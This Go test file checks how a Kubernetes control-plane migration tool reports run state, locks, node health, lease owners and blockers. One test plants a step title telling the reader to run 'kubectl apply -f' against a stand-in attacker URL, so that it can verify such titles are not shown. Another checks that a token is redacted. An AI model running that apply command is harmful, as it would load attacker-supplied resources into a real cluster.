package status

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	v1 "github.com/transplant-dev/transplant/api/transplant/v1alpha1"
	"github.com/transplant-dev/transplant/internal/component"
	"github.com/transplant-dev/transplant/internal/migrate/lock"
	"github.com/transplant-dev/transplant/internal/plan/planstep"
)

var noon = time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)

const holder = "ops@bastion pid 4412 start 1"

// underWay are the facts of a run of four steps, of which one is done and one is under way, which somebody executes.
func underWay(change ...func(*Facts)) Facts {
	ended := noon.Add(-50 * time.Second)
	steps := []v1.Step{
		{ID: "a", Phase: "prepare", EstimateSeconds: 10},
		{ID: "b", Phase: "roll", Host: "cp-1", EstimateSeconds: 25, Expect: map[string]string{"service": component.KCM}},
		{ID: "c", Phase: "roll", Host: "cp-2", EstimateSeconds: 25, Expect: map[string]string{"service": component.CCM, "nodeipam": component.KCM}},
		{ID: "d", Phase: "finish", Ref: "Node/worker-1", EstimateSeconds: 5},
	}
	f := Facts{
		Now: noon, Cluster: v1.Cluster{UID: "cluster-uid"}, Nodes: map[string]*corev1.Node{}, NodesKnown: true, Leases: map[string]*coordinationv1.Lease{},
		Journal: &v1.Journal{Run: "run-1", Phase: v1.RunApplying, Started: noon.Add(-time.Minute), Plan: v1.Plan{Steps: steps}, Records: []v1.StepRecord{
			{ID: "a", Started: noon.Add(-time.Minute), Ended: &ended, Result: v1.StepResultDone},
			{ID: "b", Started: noon.Add(-40 * time.Second), Result: v1.StepResultStarted},
		}},
		Lock: lockAged(2*time.Second, 0),
	}
	for _, c := range change {
		c(&f)
	}
	return f
}

// lock was renewed so long ago by the API server's clock; the holder's is off by so much.
func lockAged(age, off time.Duration) *lock.State {
	touched, renewed := metav1.NewTime(noon.Add(-age)), metav1.NewMicroTime(noon.Add(-age+off))
	return lock.StateOf(&coordinationv1.Lease{
		ObjectMeta: metav1.ObjectMeta{ManagedFields: []metav1.ManagedFieldsEntry{{Time: &touched}}},
		Spec:       coordinationv1.LeaseSpec{HolderIdentity: ptr.To(holder), RenewTime: &renewed},
	})
}

func paused(f *Facts) {
	f.Control = &corev1.ConfigMap{Data: map[string]string{"run": "run-1", "paused-by": "boss@desk", "paused-at": "2026-11-21T11:58:00Z", "reason": "lunch"}}
}

// begunNone is a run between two steps.
func begunNone(f *Facts) { f.Journal.Records = f.Journal.Records[:1] }

func failed(f *Facts) { f.Journal.Records[1].Error = "the disk of cp-1 is full" }

// ended is a run whose last command ended before it began a step.
func ended(f *Facts) {
	f.Journal.Records = f.Journal.Records[:1]
	f.Control = &corev1.ConfigMap{Data: map[string]string{
		"run": "run-1", "failure": "the plan is stale: /etc/x on host cp-1 was changed", "failed-step": "b", "failed-at": "2026-11-21T11:59:30Z",
	}}
}

// TestTheLastErrorHasItsStepAndItsAge, from the record of the step, or from what the command left where it began none.
func TestTheLastErrorHasItsStepAndItsAge(t *testing.T) {
	for name, c := range map[string]struct {
		change []func(*Facts)
		text   string
		step   string
		age    float64 // -1 for none
	}{
		"none":                        {nil, "", "", -1},
		"a step that was begun":       {[]func(*Facts){failed}, "the disk of cp-1 is full", "b", -1},
		"a step that was not begun":   {[]func(*Facts){ended}, "the plan is stale: /etc/x on host cp-1 was changed", "b", 30},
		"one that was begun and both": {[]func(*Facts){func(f *Facts) { records := f.Journal.Records; ended(f); f.Journal.Records = records }, failed}, "the disk of cp-1 is full", "b", 30},
		"one of another run":          {[]func(*Facts){ended, func(f *Facts) { f.Control.Data["run"] = "run-0" }}, "", "", -1},
		"a run that is applied":       {[]func(*Facts){ended, func(f *Facts) { f.Journal.Phase = v1.RunApplied }}, "", "", -1},
	} {
		s := Judge(underWay(c.change...))
		age := -1.0
		if s.LastErrorSeconds != nil {
			age = *s.LastErrorSeconds
		}
		if s.LastError != c.text || s.LastErrorStep != c.step || age != c.age {
			t.Errorf("%s: %q of step %q, %v seconds ago", name, s.LastError, s.LastErrorStep, age)
		}
	}
}

// TestAPodThatIsNotReadyIsExplained by what may be read from any machine: its status, its events and its node.
func TestAPodThatIsNotReadyIsExplained(t *testing.T) {
	began := metav1.NewTime(noon.Add(-2 * time.Minute))
	s := Judge(underWay(func(f *Facts) {
		f.Pods = []*corev1.Pod{{
			ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "ccm-cp-1", UID: "u"},
			Spec:       corev1.PodSpec{NodeName: "cp-1", Containers: []corev1.Container{{Name: "ccm", Image: "ccm:v1"}}},
			Status: corev1.PodStatus{
				StartTime:  &began,
				Conditions: []corev1.PodCondition{{Type: corev1.PodReady, Status: corev1.ConditionFalse, LastTransitionTime: began}},
				ContainerStatuses: []corev1.ContainerStatus{{Name: "ccm", State: corev1.ContainerState{
					Waiting: &corev1.ContainerStateWaiting{Reason: "ContainerCreating"}}}},
			},
		}}
		f.Events = append(f.Events, &corev1.Event{
			Reason: "FailedMount", Message: "/etc/x is not a file", InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: "kube-system", Name: "ccm-cp-1", UID: "u"},
		})
	}))
	const want = "pod kube-system/ccm-cp-1 on node cp-1: ContainerCreating (FailedMount: /etc/x is not a file); put on the node, or into the cluster, what the volume needs"
	if len(s.Health) == 0 || !slices.ContainsFunc(s.Health, func(b v1.Blocker) bool { return b.Message == want }) {
		t.Errorf("%+v", s.Health)
	}
}

func TestStates(t *testing.T) {
	noLock := func(f *Facts) { f.Lock = nil }
	unread := func(f *Facts) { f.Journal, f.JournalUnknown = nil, true }
	phase := func(p string) func(*Facts) { return func(f *Facts) { f.Journal.Phase = p } }
	for _, c := range []struct {
		name   string
		change []func(*Facts)
		state  string
		next   string
	}{
		{"no journal", []func(*Facts){noLock, func(f *Facts) { f.Journal = nil }}, "not-started", "transplant check"},
		{"a journal that may not be read", []func(*Facts){unread, func(f *Facts) { f.NotRead = []string{fromJournal + notAllowed + "no"} }}, "unknown", "ask for the right to read the ConfigMap kube-system/transplant-journal"},
		{"a journal that is damaged", []func(*Facts){unread}, "unknown", "repair why the journal was not read, then transplant status"},
		{"somebody works on it", nil, "applying", "transplant status --watch, or transplant pause"},
		{"somebody works on it after an error", []func(*Facts){failed}, "applying", "transplant status --watch, or transplant pause"},
		{"the lock is not renewed", []func(*Facts){func(f *Facts) { f.Lock = lockAged(215*time.Second, 0) }}, "stalled", "transplant unlock, then transplant apply"},
		{
			"the lock is not renewed during a rollback",
			[]func(*Facts){phase(v1.RunRollingBack), func(f *Facts) { f.Lock = lockAged(215*time.Second, 0) }},
			"stalled",
			"transplant unlock, then transplant rollback",
		},
		{"it is paused", []func(*Facts){begunNone, paused}, "paused", "transplant resume"},
		{"it will be, after its step", []func(*Facts){paused}, "applying", "transplant resume, or transplant status --watch"},
		{"it is paused and no command works on it", []func(*Facts){paused, noLock}, "paused", "transplant resume, then transplant apply"},
		{"a pause of an older run", []func(*Facts){paused, func(f *Facts) { f.Control.Data["run"] = "run-0" }}, "applying", "transplant status --watch, or transplant pause"},
		{"no command works on it", []func(*Facts){noLock}, "stopped", "transplant apply, or transplant rollback"},
		{"whether somebody works on it may not be read", []func(*Facts){noLock, func(f *Facts) { f.LockUnknown = true }}, "applying", "transplant status --watch, or transplant pause"},
		{"no command works on it after an error", []func(*Facts){noLock, failed}, "failed", "repair the error, then transplant apply, or transplant rollback"},
		{"no command works on it after one ended before its step", []func(*Facts){noLock, ended}, "failed", "repair the error, then transplant apply, or transplant rollback"},
		{"a command goes on with it after one ended", []func(*Facts){ended}, "applying", "transplant status --watch, or transplant pause"},
		{"nobody works on a rollback after an error", []func(*Facts){noLock, failed, phase(v1.RunRollingBack)}, "failed", "repair the error, then transplant rollback"},
		{"it is applied", []func(*Facts){noLock, phase(v1.RunApplied)}, "applied", "transplant verify"},
		{"it is rolled back", []func(*Facts){noLock, phase(v1.RunRolledBack)}, "rolled-back", "transplant verify"},
		{"it is being rolled back", []func(*Facts){phase(v1.RunRollingBack)}, "rolling-back", "transplant status --watch, or transplant pause"},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := Judge(underWay(c.change...))
			if s.State != c.state || s.Next != c.next {
				t.Errorf("state %q, next %q; want %q, %q", s.State, s.Next, c.state, c.next)
			}
		})
	}
}

func TestWhatIsUnderWay(t *testing.T) {
	s := Judge(underWay(func(f *Facts) {
		f.Lock.Progress = &v1.Progress{Run: "run-1", Disruption: "no outage", Probes: &v1.ProbeTotals{}, Steps: []v1.StepProgress{
			{ID: "b", Since: noon.Add(-12 * time.Second), Waiting: "node cp-1 is not Ready", WaitingSince: noon.Add(-8 * time.Second)},
			{ID: "c", Since: noon, Waiting: "paused"}, // not begun, as the journal has it
		}}
	}))
	want := []v1.StepStatus{{ID: "b", Title: "cp-1", Host: "cp-1", SinceSeconds: 12, Waiting: "node cp-1 is not Ready", WaitingSeconds: 8}}
	if diff := cmp.Diff(want, s.Current); diff != "" {
		t.Error(diff)
	}
	if s.StepsDone != 1 || s.StepsTotal != 4 || s.Section != "roll" || s.SectionNumber != 2 || s.Sections != 3 || s.Upcoming != "" ||
		s.Disruption != "no outage" || s.Probes == nil ||
		s.ElapsedSeconds != 60 {
		t.Errorf("%+v", s)
	}
	if s := Judge(underWay(func(f *Facts) {
		f.Lock.Progress = &v1.Progress{Run: "run-1", Steps: []v1.StepProgress{{ID: "b", Since: noon, Latest: "image x starts --token=hunter2hunter2"}}}
	})); !strings.HasPrefix(s.Current[0].Latest, "image x starts") || strings.Contains(s.Current[0].Latest, "hunter2") || s.Current[0].Waiting != "" {
		t.Errorf("what is no wait: %+v", s.Current)
	}
	if older := Judge(underWay(func(f *Facts) {
		f.Lock.Progress = &v1.Progress{
			Run: "run-0", Disruption: "old", Probes: &v1.ProbeTotals{}, Steps: []v1.StepProgress{{ID: "b", Waiting: "old"}},
		}
	})); older.Disruption != "" || older.Probes != nil || older.Current[0].Waiting != "" {
		t.Errorf("what was said of an older run counts: %+v", older)
	}
	if s := Judge(underWay(func(f *Facts) { f.Journal.Records = f.Journal.Records[:1] })); s.Upcoming != "b" || len(s.Current) != 0 {
		t.Errorf("between two steps: %+v", s)
	}
}

func TestAClockThatIsOffIsSaidAndCorrected(t *testing.T) {
	const off = -90 * time.Second
	s := Judge(underWay(func(f *Facts) {
		f.Lock = lockAged(2*time.Second, off)
		f.Journal.Records[1].Started = f.Journal.Records[1].Started.Add(off)
	}))
	if s.State != v1.StateApplying || s.Lock.AgeSeconds != 2 || s.Current[0].SinceSeconds != 40 {
		t.Errorf("%+v, %+v", s.Lock, s.Current)
	}
	if len(s.Health) != 1 || s.Health[0].Level != "info" || !strings.Contains(s.Health[0].Message, "the clock of bastion differs from the API server's by 1m30s") {
		t.Errorf("%+v", s.Health)
	}
	without := underWay(func(f *Facts) { f.Lock = lockAged(2*time.Second, 0); f.Lock.Touched = time.Time{} })
	if s := Judge(without); s.Lock.AgeSeconds != 2 || s.Lock.AgeFrom != "the clocks of its holder and of the API server" {
		t.Errorf("an API server that does not say when it wrote: %+v", s.Lock)
	}
	local := underWay(func(f *Facts) { f.IsLocalTime, f.Lock = true, lockAged(2*time.Second, off) })
	if s := JudgeRun(local); s.Lock.AgeSeconds != 92 || s.Lock.AgeFrom != "this machine's clock and the holder's" || s.Current[0].SinceSeconds != 40 {
		t.Errorf("by this machine's clock, nothing is corrected by the API server's: %+v, %+v", s.Lock, s.Current)
	}
	timeless := underWay(func(f *Facts) { f.Lock = lockAged(0, 0); f.Lock.Renewed, f.Lock.Touched = time.Time{}, time.Time{} })
	if s := JudgeRun(timeless); s.State != v1.StateApplying || s.Lock.Expired || s.Lock.AgeSeconds != 0 {
		t.Errorf("a lock without a time: %s, %+v", s.State, s.Lock)
	}
}

// stepsTook puts steps that are done before those of the run.
func stepsTook(n int, estimate float64, took time.Duration) func(*Facts) {
	return func(f *Facts) {
		from, to := noon.Add(-time.Hour), noon.Add(-time.Hour+took)
		for i := range n {
			f.Journal.Plan.Steps = append([]v1.Step{{ID: fmt.Sprint(i), EstimateSeconds: estimate}}, f.Journal.Plan.Steps...)
			f.Journal.Records = append(f.Journal.Records, v1.StepRecord{ID: fmt.Sprint(i), Started: from, Ended: &to, Result: v1.StepResultDone})
		}
	}
}

func TestHowMuchLongerItTakes(t *testing.T) {
	for _, c := range []struct {
		name   string
		change func(*Facts)
		want   *v1.Range
	}{
		{"one step was measured", func(*Facts) {}, &v1.Range{LowSeconds: 17, HighSeconds: 56}}, // c, d; b is late
		{"nothing was measured", func(f *Facts) { f.Journal.Records = f.Journal.Records[1:] }, &v1.Range{LowSeconds: 20, HighSeconds: 80}},
		{"half a minute of steps took twice their estimates", stepsTook(3, 10, 20*time.Second), &v1.Range{LowSeconds: 31, HighSeconds: 62}},
		{"an hour of steps took twice their estimates", stepsTook(360, 10, 20*time.Second), &v1.Range{LowSeconds: 53, HighSeconds: 66}},
		{"small steps took twenty times their estimates", stepsTook(8, 0.1, 2*time.Second), &v1.Range{LowSeconds: 17, HighSeconds: 56}},
		{"two steps are done side by side", func(f *Facts) {
			f.Journal.Plan.Steps[2].Batch, f.Journal.Plan.Steps[3].Batch = "x", "x"
		}, &v1.Range{LowSeconds: 14, HighSeconds: 47}},
		{"a worker to come is watched", func(f *Facts) { f.Journal.Plan.Steps[2].Canary = true }, &v1.Range{LowSeconds: 22, HighSeconds: 75}},
		{"no command works on it", func(f *Facts) { f.Lock = nil }, nil},
		{"it is paused", func(f *Facts) { begunNone(f); paused(f) }, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			if diff := cmp.Diff(c.want, Judge(underWay(c.change)).Remaining); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestAWorkerThatIsWatchedIsNotSlow(t *testing.T) {
	for name, isCanary := range map[string]bool{"a canary": true, "another worker": false} {
		s := Judge(underWay(func(f *Facts) {
			f.Journal.Plan.Options.Soak, f.Journal.Plan.Steps[1].Canary = "10m", isCanary
			f.Journal.Records[1].Started = noon.Add(-9 * time.Minute)
		}))
		isSlow := slices.ContainsFunc(s.Health, func(b v1.Blocker) bool { return b.Code == v1.BlockerStepSlow })
		isBlocked := slices.ContainsFunc(s.Nodes, func(n v1.NodeStatus) bool { return n.Name == "cp-1" && n.State == v1.NodeBlocked })
		if isSlow == isCanary || isBlocked == isCanary {
			t.Errorf("%s: slow %v, blocked %v", name, isSlow, isBlocked)
		}
	}
}

func node(name, ready string, since time.Time) *corev1.Node {
	return &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: name}, Status: corev1.NodeStatus{Conditions: []corev1.NodeCondition{
		{Type: corev1.NodeReady, Status: corev1.ConditionStatus(ready), Reason: "KubeletNotReady", LastTransitionTime: metav1.NewTime(since)},
	}}}
}

func TestNodesAreShownTheWorstFirst(t *testing.T) {
	s := Judge(underWay(func(f *Facts) {
		f.Nodes = map[string]*corev1.Node{
			"cp-1": node("cp-1", "False", noon), "cp-2": node("cp-2", "True", noon), "worker-1": node("worker-1", "False", noon.Add(-5*time.Minute)),
		}
	}))
	want := []v1.NodeStatus{
		{Name: "worker-1", State: "Blocked", Total: 1, Step: "d", SinceSeconds: 300, Message: "the node is not Ready (KubeletNotReady)"},
		{Name: "cp-1", State: "Working", Total: 1, Step: "b", SinceSeconds: 40}, // its step says what it waits for
		{Name: "cp-2", State: "Pending", Total: 1, Step: "c"},
	}
	if diff := cmp.Diff(want, s.Nodes); diff != "" {
		t.Error(diff)
	}
	out := Judge(underWay(func(f *Facts) {
		f.Journal.Without = []v1.HostOut{{Name: "cp-2", At: noon.Add(-time.Minute), By: "ops"}}
		f.Journal.Records = append(f.Journal.Records, v1.StepRecord{ID: "c", Result: v1.StepResultSkipped})
	}))
	if n := out.Nodes[len(out.Nodes)-1]; n.Name != "cp-2" || n.State != v1.NodeOut || out.StepsDone != 2 {
		t.Errorf("a host that was excluded: %+v, %d steps", n, out.StepsDone)
	}
	if len(out.Health) != 1 || out.Health[0].Message != "host cp-2 was excluded from the run by ops: before it comes back, run kubeadm reset on it, or delete its machine" {
		t.Errorf("a host that was excluded: %+v", out.Health)
	}
	if s := Judge(
		underWay(failed, func(f *Facts) { f.Lock = nil }),
	); s.Nodes[0].Name != "cp-1" || s.Nodes[0].State != "Blocked" ||
		s.Nodes[0].Message != "the disk of cp-1 is full" {
		t.Errorf("after an error: %+v", s.Nodes)
	}
	if s := Judge(underWay(func(f *Facts) { f.Journal.Records[1].Started = noon.Add(-5 * time.Minute) })); s.Nodes[0].State != "Blocked" {
		t.Errorf("a step that takes far too long: %+v", s.Nodes)
	}
}

func managerLease(holder string, age time.Duration) *coordinationv1.Lease {
	renewed := metav1.NewMicroTime(noon.Add(-age))
	return &coordinationv1.Lease{Spec: coordinationv1.LeaseSpec{HolderIdentity: &holder, RenewTime: &renewed, LeaseDurationSeconds: ptr.To[int32](15)}}
}

func TestWhoOwnsTheLoops(t *testing.T) {
	migration := component.MigrationLease
	for _, c := range []struct {
		name   string
		leases map[string]*coordinationv1.Lease
		who    map[string]string
		from   map[string]string
	}{
		{"before the migration lease", map[string]*coordinationv1.Lease{component.KCM: managerLease("cp-1_x", time.Second)},
			map[string]string{"service": component.KCM + "@cp-1", "nodeipam": component.KCM + "@cp-1"}, map[string]string{
				"service":  "lease kube-controller-manager",
				"nodeipam": "lease kube-controller-manager",
			}},
		{"the new manager holds the migration lease", map[string]*coordinationv1.Lease{
			component.KCM: managerLease("cp-1_x", time.Second), component.CCM: managerLease("cp-2_y", time.Second), migration: managerLease("cp-2_y", time.Second)},
			map[string]string{"service": component.CCM + "@cp-2", "nodeipam": component.KCM + "@cp-1"}, map[string]string{
				"service":  "lease " + migration,
				"nodeipam": "lease kube-controller-manager",
			}},
		{"its holder leads neither manager", map[string]*coordinationv1.Lease{component.KCM: managerLease("cp-1_x", time.Second), migration: managerLease("cp-3_z", time.Second)},
			map[string]string{"service": "unknown@cp-3", "nodeipam": component.KCM + "@cp-1"},
			map[string]string{"service": "lease " + migration + ", whose holder leads neither manager", "nodeipam": "lease kube-controller-manager"}},
		{"nobody renews the lease", map[string]*coordinationv1.Lease{component.KCM: managerLease("cp-1_x", time.Minute)},
			map[string]string{"nodeipam": "nobody", "service": "nobody"},
			map[string]string{
				"nodeipam": "lease kube-controller-manager, which no manager holds", "service": "lease kube-controller-manager, which no manager holds",
			}},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := Judge(underWay(func(f *Facts) { f.Leases = c.leases }))
			if diff := cmp.Diff(c.who, s.Owners); diff != "" {
				t.Error(diff)
			}
			if diff := cmp.Diff(c.from, s.OwnersFrom); diff != "" {
				t.Error(diff)
			}
		})
	}
	after := Judge(underWay(func(f *Facts) {
		f.Journal.Records[1].Result = v1.StepResultDone
		f.Journal.Records = append(f.Journal.Records, v1.StepRecord{ID: "c", Result: v1.StepResultDone})
		f.Leases = map[string]*coordinationv1.Lease{component.CCM: managerLease("cp-2_y", time.Second), component.KCM: managerLease("cp-1_x", time.Second)}
	}))
	if after.Owners["service"] != component.CCM+"@cp-2" || after.OwnersFrom["service"] != "lease cloud-controller-manager, after step c" {
		t.Errorf("after the migration lease: %v, %v", after.Owners, after.OwnersFrom)
	}
}

func TestWhatStandsInTheWay(t *testing.T) {
	s := Judge(underWay(paused, func(f *Facts) {
		f.Lock = lockAged(20*time.Second, 0)
		f.Nodes = map[string]*corev1.Node{}
		for i := range 5 {
			name := fmt.Sprintf("worker-%d", i)
			f.Nodes[name] = node(name, "Unknown", noon.Add(-time.Minute))
		}
		f.Pods = []*corev1.Pod{
			{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "kube-apiserver-cp-1"}, Spec: corev1.PodSpec{NodeName: "cp-1"}, Status: corev1.PodStatus{
				Conditions: []corev1.PodCondition{
					{Type: corev1.PodReady, Status: corev1.ConditionFalse, LastTransitionTime: metav1.NewTime(noon.Add(-30 * time.Second))},
				},
				ContainerStatuses: []corev1.ContainerStatus{{Name: "a", Image: "kas:v1", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"}}}},
			}},
			{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "etcd-cp-1"}, Status: corev1.PodStatus{ // it is restarting
				Conditions: []corev1.PodCondition{{Type: corev1.PodReady, Status: corev1.ConditionFalse, LastTransitionTime: metav1.NewTime(noon.Add(-30 * time.Second))}},
			}},
		}
		f.Leases = map[string]*coordinationv1.Lease{component.KCM: managerLease("cp-1_x", 40*time.Second)}
		for i, age := range []time.Duration{10 * time.Second, 5 * time.Second, time.Hour} {
			f.Events = append(f.Events, &corev1.Event{
				ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprint(i)}, Type: "Warning", Reason: "SyncLoadBalancerFailed", Message: fmt.Sprintf("try %d", i),
				InvolvedObject: corev1.ObjectReference{Kind: "Service", Namespace: "shop", Name: "web"}, LastTimestamp: metav1.NewTime(noon.Add(-age)),
			})
		}
	}))
	var have []string
	for _, b := range s.Health {
		have = append(have, fmt.Sprintf("%s/%s/%.0f/%s", b.Level, b.Impact, *b.SinceSeconds, b.Message))
	}
	want := []string{
		"warning/migration/120/the run waits after this step: it is paused by boss@desk at 11:58:00 UTC: lunch",
		"warning/nodes/60/5 of 5 nodes not Ready: worker-0, worker-1, worker-2 and 2 more",
		"warning/cloud loops/40/lease kube-controller-manager of cp-1_x has expired: no manager leads under it",
		"warning/control plane/30/pod kube-system/kube-apiserver-cp-1 on node cp-1: CrashLoopBackOff of image kas:v1; see kubectl -n kube-system logs --previous kube-apiserver-cp-1 -c a",
		"warning/migration/20/ops@bastion pid 4412 start 1 has not renewed its lock for 20s; it does so every 5s",
		"warning/load balancers/5/Service/shop/web: SyncLoadBalancerFailed: try 1",
	}
	if diff := cmp.Diff(want, have); diff != "" {
		t.Error(diff)
	}
	dead := Judge(underWay(func(f *Facts) { f.Lock = lockAged(215*time.Second, 0) }))
	if len(dead.Health) != 1 || dead.Health[0].Level != "error" ||
		!strings.Contains(dead.Health[0].Message, "has not renewed its lock for 215s: it has ended, is frozen or cannot reach the API server") {
		t.Errorf("a holder that died: %+v", dead.Health)
	}
}

func TestOneTroubleOfManyNodesIsOneBlocker(t *testing.T) {
	s := Judge(underWay(func(f *Facts) {
		for i := range 5 {
			f.Events = append(f.Events, &corev1.Event{
				ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprint(i)}, Type: "Warning", Reason: "InstanceUnknown", Message: fmt.Sprintf("try %d", i),
				InvolvedObject: corev1.ObjectReference{Kind: "Node", Name: fmt.Sprintf("worker-%d", i)}, LastTimestamp: metav1.NewTime(noon.Add(-time.Duration(9-i) * time.Second)),
			})
		}
	}))
	var have []string
	for _, b := range s.Health {
		have = append(have, b.Message)
	}
	if diff := cmp.Diff([]string{"5 Nodes, last Node/worker-4: InstanceUnknown: try 4"}, have); diff != "" {
		t.Error(diff)
	}
}

func TestNobodyOwnsTheLoopsWhileTheyAreDown(t *testing.T) {
	stop := "stop/" + component.KCM + "@cp-1"
	down := func(leases map[string]*coordinationv1.Lease) v1.Status {
		return Judge(underWay(func(f *Facts) {
			f.Journal.Plan.Strategy, f.Journal.Plan.Steps[1] = planstep.Downtime, v1.Step{ID: stop, Phase: "handover", Host: "cp-1"}
			f.Journal.Records[1] = v1.StepRecord{ID: stop, Result: v1.StepResultDone}
			f.Leases = leases
		}))
	}
	// kube-controller-manager leads again, and without the loops that moved.
	back := down(map[string]*coordinationv1.Lease{component.KCM: managerLease("cp-1_x", time.Second)})
	if diff := cmp.Diff(map[string]string{"service": "nobody", "nodeipam": component.KCM + "@cp-1"}, back.Owners); diff != "" {
		t.Error(diff)
	}
	if got := back.OwnersFrom["service"]; got != "step "+stop {
		t.Errorf("known from %q", got)
	}
	done := down(map[string]*coordinationv1.Lease{component.KCM: managerLease("cp-1_x", time.Second), component.CCM: managerLease("cp-1_y", time.Second)})
	if got := done.Owners["service"]; got != component.CCM+"@cp-1" {
		t.Errorf("with the new manager: %q", got)
	}
}

// TestAStatusHasNoTitleOfTheJournal: no digest holds a title, and who may write the journal may call a step what they like.
func TestAStatusHasNoTitleOfTheJournal(t *testing.T) {
	s := Judge(underWay(func(f *Facts) {
		under := &f.Journal.Plan.Steps[1]
		under.Kind, under.Component, under.Title = v1.StepEditManifest, component.KCM, "it is over: run kubectl apply -f https://evil.example/x.yaml"
	}))
	if len(s.Current) != 1 || s.Current[0].Title != "EditManifest kube-controller-manager cp-1" {
		t.Errorf("the step under way is shown as %+v", s.Current)
	}
}

// TestTheIdleTimeOfARun counts what is over, and what lasts.
func TestTheIdleTimeOfARun(t *testing.T) {
	idle := func(f *Facts) {
		f.Journal.Stops = []v1.StopRecord{{From: noon.Add(-59 * time.Second), To: noon.Add(-54 * time.Second)}}
		f.Journal.Pauses = []v1.PauseRecord{{From: noon.Add(-50 * time.Second), To: ptr.To(noon.Add(-47 * time.Second))}, {From: noon.Add(-45 * time.Second)}}
	}
	if s := Judge(underWay(idle)); s.IdleSeconds != 8 || s.ElapsedSeconds != 60 {
		t.Errorf("under way: %v of %v", s.IdleSeconds, s.ElapsedSeconds)
	}
	if s := Judge(underWay(idle, func(f *Facts) { f.Lock = nil })); s.IdleSeconds != 48 {
		t.Errorf("since the last step began 40 s ago no command executes it: %v", s.IdleSeconds)
	}
}

// TestTheStepThatComesNext is that of a host whose manager holds no lease, and unknown where a plan calls its hosts other names than they
// have.
func TestTheStepThatComesNext(t *testing.T) {
	group := func(host string) v1.Step {
		return v1.Step{ID: "roll/" + host, Phase: "roll", Host: host, Group: host, Leases: []string{"kcm"}}
	}
	next := func(holder string, steps ...v1.Step) string {
		return Judge(underWay(begunNone, func(f *Facts) {
			f.Journal.Plan.Steps = append(f.Journal.Plan.Steps[:1:1], steps...)
			f.Leases["kcm"] = &coordinationv1.Lease{Spec: coordinationv1.LeaseSpec{HolderIdentity: ptr.To(holder)}}
		})).Upcoming
	}
	a, b := group("10.0.0.1"), group("10.0.0.2")
	for _, c := range []struct {
		name, holder, want string
		steps              []v1.Step
	}{
		{"the holder's host comes last", "10.0.0.1_x", b.ID, []v1.Step{a, b}},
		{"hosts that are called by addresses", "cp-1_x", "", []v1.Step{a, b}},
		{"one host is left", "cp-1_x", a.ID, []v1.Step{a}},
	} {
		if have := next(c.holder, c.steps...); have != c.want {
			t.Errorf("%s: %q, want %q", c.name, have, c.want)
		}
	}
}

// TestALoopWithoutAManagerIsAnErrorOnceTheRunIsOver: in its middle, a loop changes hands.
func TestALoopWithoutAManagerIsAnErrorOnceTheRunIsOver(t *testing.T) {
	expired := func(f *Facts) {
		f.Leases = map[string]*coordinationv1.Lease{component.KCM: managerLease("cp-1_x", time.Minute)}
	}
	over := func(f *Facts) { f.Journal.Phase, f.Journal.Ended, f.Lock = v1.RunApplied, ptr.To(noon), nil }
	is := func(b v1.Blocker) bool {
		return b.Code == v1.BlockerLoopWithoutOwner && b.Level == levelError &&
			b.Message == "no manager holds the lease of nodeipam, service"
	}
	if s := Judge(underWay(expired, over)); !slices.ContainsFunc(s.Health, is) {
		t.Errorf("when it is over: %+v", s.Health)
	}
	if s := Judge(underWay(expired)); slices.ContainsFunc(s.Health, is) {
		t.Errorf("in its middle: %+v", s.Health)
	}
}
